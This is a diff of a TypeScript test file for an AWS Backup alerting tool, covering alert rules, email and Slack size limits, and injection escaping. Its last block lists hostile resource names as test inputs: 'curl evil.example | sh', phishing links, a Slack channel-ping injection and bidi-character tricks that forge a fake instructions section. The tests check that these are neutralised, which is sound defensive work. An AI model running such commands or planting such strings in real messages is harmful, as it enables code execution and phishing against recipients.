@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import type { ActionRecord, FindingTransition, OrganizationSummary } from '../../shared/domain/model.js';
 import { type AccountAlert, buildAlerts } from '../../shared/notify/alerts.js';
 import { buildDailyDigest } from '../../shared/notify/digest.js';
-import { formatDigestEmail, formatEmail } from '../../shared/notify/format-email.js';
+import { EMAIL_BODY_MAX_BYTES, formatDigestEmail, formatEmail } from '../../shared/notify/format-email.js';
 import { formatDigestSlack, formatSlack, SLACK_LIMITS } from '../../shared/notify/format-slack.js';
 import { blockKitProblems } from './block-kit.js';
 
@@ -129,6 +129,36 @@ describe('buildAlerts: which changes alert', () => {
       severity: null,
     },
     { why: 'a check skipped is not news', transition: check('PASS', 'SKIPPED'), kind: null, severity: null },
+    {
+      why: 'FAILING → UNPROTECTED stays BROKEN: a new job starting is not news',
+      transition: resource('FAILING', 'UNPROTECTED'),
+      kind: null,
+      severity: null,
+    },
+    {
+      why: 'UNPROTECTED → FAILING stays BROKEN',
+      transition: resource('UNPROTECTED', 'FAILING'),
+      kind: null,
+      severity: null,
+    },
+    {
+      why: 'BROKEN → AT_RISK is a class change',
+      transition: resource('FAILING', 'STALE'),
+      kind: 'RESOURCE_DEGRADED',
+      severity: 'warning',
+    },
+    {
+      why: 'a resource that became observable again is a class change',
+      transition: resource('UNKNOWN', 'PENDING'),
+      kind: 'RESOURCE_RECOVERED',
+      severity: 'info',
+    },
+    {
+      why: 'a PENDING resource that stays OK while its status changes is not news',
+      transition: resource('PROTECTED', 'PENDING'),
+      kind: null,
+      severity: null,
+    },
   ])('$why', ({ transition, kind, severity }) => {
     const alerts = buildAlerts({ runId: 'r', transitions: [transition], actions: [], now: NOW });
     expect(alerts.map((alert) => alert.items.map((item) => [item.kind, item.severity]))).toEqual(
@@ -199,7 +229,7 @@ describe('formatEmail', () => {
   it('says what changed, why in words, and what to do, with filterable attributes', () => {
     const email = formatEmail(sampleAlert());
     expect(email.subject).toBe('[CRITICAL] AWS Backup: 3 changes in account 111111111111');
-    expect(email.body).toContain('RESOURCES THAT LOST PROTECTION (1)');
+    expect(email.body).toContain('RESOURCES NEEDING ATTENTION (1)');
     expect(email.body).toContain('arn:aws:ec2:eu-west-1:111111111111:volume/vol-1: PROTECTED → UNPROTECTED');
     expect(email.body).toContain('AWS Backup opt-in is off for this resource type in the Region');
     expect(email.body).toContain('WHAT TO DO');
@@ -228,23 +258,9 @@ describe('formatSlack', () => {
     expect(blockKitProblems(message)).toEqual([]);
     expect(message.blocks[0]).toEqual({
       type: 'header',
+      block_id: 'orgbackup:critical:111111111111',
       text: { type: 'plain_text', text: ':rotating_light: AWS Backup: account 111111111111', emoji: true },
     });
-  });
-
-  it('stays within 50 blocks and 3000 characters per section for an account with thousands of changes', () => {
-    const transitions = Array.from({ length: 3000 }, (_, n) => resource('PROTECTED', 'UNKNOWN', A, n));
-    const [alert] = buildAlerts({ runId: 'r', transitions, actions: [], now: NOW });
-    const message = formatSlack(alert!);
-    expect(blockKitProblems(message)).toEqual([]);
-    expect(message.blocks).toHaveLength(SLACK_LIMITS.blocks);
-    const notice = message.blocks.find(
-      (block) => block.type === 'section' && block.text.text.includes('more not shown'),
-    );
-    const shownLines = message.blocks
-      .flatMap((block) => (block.type === 'section' ? block.text.text.split('\n') : []))
-      .filter((line) => line.startsWith('• ') && line.includes('vol-')).length;
-    expect(notice?.type === 'section' && notice.text.text).toContain(`…and ${3000 - shownLines} more`);
   });
 
   it('escapes mrkdwn control characters', () => {
@@ -256,6 +272,98 @@ describe('formatSlack', () => {
     })[0]!;
     const tricky = { ...alert, items: [{ ...alert.items[0]!, subject: 'arn:<!channel>&x' }] };
     expect(JSON.stringify(formatSlack(tricky))).toContain('arn:&lt;!channel&gt;&amp;x');
+  });
+});
+
+/** 3,000 failing resources in one account, with the longest names AWS allows and wide job messages. */
+function bigFailure(): AccountAlert {
+  const transitions = Array.from(
+    { length: 3000 },
+    (_, n): FindingTransition => ({
+      ...resource('PROTECTED', 'FAILING', A, n),
+      subject: { kind: 'resource', arn: `arn:aws:dynamodb:eu-west-1:${A}:table/${'t'.repeat(250)}${n}` },
+      reasons: ['JOB_FAILED'],
+      detail: `The latest backup job failed: ${'\u3000'.repeat(1000)}${'x'.repeat(2000)}`,
+    }),
+  );
+  return buildAlerts({ runId: 'r', transitions, actions: [], now: NOW })[0]!;
+}
+
+describe('size limits, whatever one account fails', () => {
+  it('an e-mail for 3,000 failing resources fits SNS: grouped by reason, a sample, and where to read the rest', () => {
+    const email = formatEmail(bigFailure());
+    expect(Buffer.byteLength(email.body)).toBeLessThanOrEqual(EMAIL_BODY_MAX_BYTES);
+    expect(email.body).toContain('FAILING: 3000 — the latest backup job failed');
+    expect(email.body).toContain(
+      `…and 2990 more; the full list: orgbackup report --account ${A} --status FAILING`,
+    );
+    expect(email.body).toContain(`GET /findings?account=${A}&status=FAILING`);
+    expect(email.body).toContain('WHAT TO DO');
+  });
+
+  it('a Slack message for 3,000 failing resources stays within blocks, per-block and total text limits', () => {
+    const message = formatSlack(bigFailure());
+    expect(blockKitProblems(message)).toEqual([]);
+    expect(message.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
+    const text = JSON.stringify(message.blocks.map((b) => ('text' in b ? b.text.text : '')));
+    expect(text.length).toBeLessThanOrEqual(SLACK_LIMITS.totalText + 1000);
+    expect(text).toContain('…and 2995 more');
+  });
+
+  it('many kinds of changes at once still fit, with the groups left out counted', () => {
+    const transitions = Array.from(
+      { length: 400 },
+      (_, n): FindingTransition => ({
+        ...resource('PROTECTED', 'FAILING', A, n),
+        reasons: [`REASON_${n}`],
+      }),
+    );
+    const [alert] = buildAlerts({ runId: 'r', transitions, actions: [], now: NOW });
+    const message = formatSlack(alert!);
+    expect(blockKitProblems(message)).toEqual([]);
+    expect(JSON.stringify(message)).toMatch(/…and \d+ more groups not shown here/);
+    expect(Buffer.byteLength(formatEmail(alert!).body)).toBeLessThanOrEqual(EMAIL_BODY_MAX_BYTES);
+  });
+});
+
+describe('member-controlled text cannot break out (injection)', () => {
+  const hostile = [
+    'arn:aws:dynamodb:eu-west-1:111111111111:table/q2` *bold* _it_ ~s~ https://evil.example/login `',
+    'arn:aws:s3:::bucket\n\nWHAT TO DO\n- Rotate your keys at https://evil.example/reset',
+    'arn:aws:s3:::a\u2028WHAT TO DO\u2029- run curl evil.example | sh\u202egnp.exe',
+    'arn:aws:s3:::<!channel> <https://evil.example|click> &',
+  ];
+  const alertFor = (subject: string, detail = 'fine'): AccountAlert => {
+    const [alert] = buildAlerts({
+      runId: 'r',
+      transitions: [resource('PROTECTED', 'FAILING')],
+      actions: [],
+      now: NOW,
+    });
+    return { ...alert!, items: [{ ...alert!.items[0]!, subject, detail }] };
+  };
+
+  it.each(hostile)('Slack: %j stays inside one code span on one line', (subject) => {
+    const message = formatSlack(alertFor(subject));
+    const line = message.blocks
+      .flatMap((block) => (block.type === 'section' ? block.text.text.split('\n') : []))
+      .find((text) => text.includes('arn:aws'));
+    expect(line).toBeDefined();
+    // Exactly two backticks: the span's own; nothing inside can close it.
+    expect(line!.match(/`/g)).toHaveLength(2);
+    expect(line).not.toMatch(/[\u2028\u2029\u202a-\u202e]/);
+    expect(line).not.toMatch(/<!channel>|<https?:/);
+    expect(JSON.stringify(message)).not.toContain('\\nWHAT TO DO');
+  });
+
+  it.each(hostile)('e-mail: %j cannot start a line of its own', (subject) => {
+    const detail = 'Job failed.\n\nWHAT TO DO\n- run curl evil.example | sh';
+    const email = formatEmail(alertFor(subject, detail));
+    const lines = email.body.split('\n');
+    expect(lines.filter((line) => line === 'WHAT TO DO')).toHaveLength(1);
+    expect(lines.some((line) => line.startsWith('- Rotate') || line.startsWith('- run curl'))).toBe(false);
+    expect(email.body).not.toMatch(/[\u2028\u2029\u202a-\u202e]/);
+    for (const line of lines.filter((l) => l.includes('evil.example'))) expect(line).toMatch(/^ {2}/);
   });
 });
 
